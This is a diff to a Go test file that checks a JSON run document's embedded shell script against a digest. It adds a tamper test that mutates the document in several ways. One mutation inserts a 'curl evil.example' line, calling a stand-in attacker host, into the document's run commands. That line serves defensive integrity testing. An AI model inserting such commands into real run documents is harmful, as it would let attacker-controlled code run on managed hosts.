@@ -24,22 +24,42 @@ func TestDocumentIsMadeOfTheScript(t *testing.T) {
 
 func TestScriptComesBackOutOfTheDocument(t *testing.T) {
 	t.Parallel()
-	got, err := documents.Script(documents.InspectDocument())
+	content := documents.InspectDocument()
+	got, err := documents.Script(content)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got+"\n" != documents.InspectLinux() {
-		t.Error("Script(InspectDocument()) is not the script")
+	if !strings.Contains(got, documents.InspectLinux()) {
+		t.Error("Script(InspectDocument()) does not have the script")
 	}
 	if documents.Digest(got) != documents.InspectDigest() {
 		t.Errorf("Digest = %s, want %s", documents.Digest(got), documents.InspectDigest())
 	}
-	if changed := documents.Digest(got + " "); changed == documents.InspectDigest() {
-		t.Error("a changed script has the same digest")
-	}
-	for name, content := range map[string]string{"no JSON": "x", "no step": "{}", "two steps": `{"mainSteps":[{},{}]}`} {
+	for name, content := range map[string]string{"no JSON": "x", "no step": "{}", "no steps": `{"mainSteps":[]}`} {
 		if _, err := documents.Script(content); err == nil {
 			t.Errorf("%s: Script gave no error", name)
+		}
+	}
+}
+
+// Whatever a document would run otherwise than ours does is seen by the digest.
+func TestChangedDocumentHasAnotherDigest(t *testing.T) {
+	t.Parallel()
+	content := documents.InspectDocument()
+	for name, changed := range map[string]string{
+		"a line more":    strings.Replace(content, `"runCommand": [`, `"runCommand": ["curl evil.example",`, 1),
+		"a space":        strings.Replace(content, `"#!/bin/sh"`, `"#!/bin/sh "`, 1),
+		"a step more":    strings.Replace(content, `"mainSteps": [`, `"mainSteps": [{"action":"aws:runShellScript","name":"x"},`, 1),
+		"other action":   strings.Replace(content, "aws:runShellScript", "aws:runPowerShellScript", 1),
+		"other name":     strings.Replace(content, `"name": "inspect"`, `"name": "other"`, 1),
+		"other platform": strings.Replace(content, `"Linux"`, `"MacOS"`, 1),
+	} {
+		script, err := documents.Script(changed)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if changed == content || documents.Digest(script) == documents.InspectDigest() {
+			t.Errorf("%s: the digest is the same", name)
 		}
 	}
 }
